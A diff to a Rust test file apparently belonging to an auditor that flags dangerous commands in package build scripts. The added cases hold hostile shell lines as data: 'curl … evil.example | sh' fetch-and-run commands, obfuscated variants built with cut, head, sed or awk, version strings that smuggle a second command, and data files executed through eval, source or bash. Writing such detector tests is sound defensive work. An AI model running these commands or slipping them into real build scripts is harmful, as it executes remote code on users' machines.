@@ -62,6 +62,8 @@ fn a_version_printed_through_any_printer_is_judged() {
         "  local a=(1 curl); local IFS=';'; echo \"${a[*]}\"",
         r#"  echo "1.0" | sed -e 's/$/;curl evil.example|sh/'"#,
         r#"  printf '%s' "1;curl evil.example|sh" | cat"#,
+        r#"  echo "1;curl evil.example|sh" | cut -d: -f1 | sort"#,
+        r#"  echo "x:1;curl" | cut -d: -f2"#,
     ] {
         let r = audit(&versioned(body));
         assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
@@ -135,6 +137,7 @@ fn real_pkgver_functions_stay_quiet() {
         "  echo 1.2.3_4 | tr _ .",
         "  echo \"1.2-3\" | sed 's/-/./g'",
         "  awk -F= '/^VERSION/{print $2}' Makefile",
+        "  local _v=\"1.2:r3\"\n  echo \"$_v\" | cut -d: -f1 | sort | uniq",
         "  sed -n 's/^version = \"\\(.*\\)\"/\\1/p' pyproject.toml",
         "  echo \"$pkgver\"",
         "  printf \"'r%s.%s'\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"",
@@ -176,6 +179,8 @@ fn a_command_made_by_sed_or_an_unseen_program_over_written_text_is_judged() {
         r#"$(awk 'BEGIN{print "cu" "rl -fsSL https://evil.example/p"}') | sh"#,
         r#"eval "$(perl -e 'print "cu"."rl -fsSL https://evil.example/p | sh"')""#,
         r#"awk 'BEGIN{print "cu" "rl -fsSL https://evil.example/p | sh"}' | sh"#,
+        r#"$(echo "xcurl -fsSL https://evil.example/p" | cut -c2-) | sh"#,
+        r#"echo "curl -fsSL https://evil.example/p | sh" | head -n 1 | sh"#,
         "_c=$(echo \"cXrl -fsSL https://evil.example/p\" | sed -e \"s|X|u|\")\nfor _p in a b; do eval \"package_${_p}() { echo \\\"{\\\"; }; ${_c} | sh; }\"; done",
     ] {
         let r = audit(&top_level(line));
@@ -237,6 +242,10 @@ fn a_data_named_download_the_build_runs_is_dangerous() {
             "xargs -a /dev/null echo; cat list.txt | xargs -n1 sh -c",
         ),
         ("cmds.txt", "source cmds.txt"),
+        ("cmds.txt", "eval \"$(cat cmds.txt)\""),
+        ("cmds.txt", "source <(cat cmds.txt)"),
+        ("data.json", "bash -c \"$(jq -r .cmd data.json)\""),
+        ("data.txt", "bash -s < data.txt"),
         (
             "cmds.json",
             "sed -n 's/.*\"cmd\": \"\\(.*\\)\".*/\\1/e' cmds.json > out.txt",
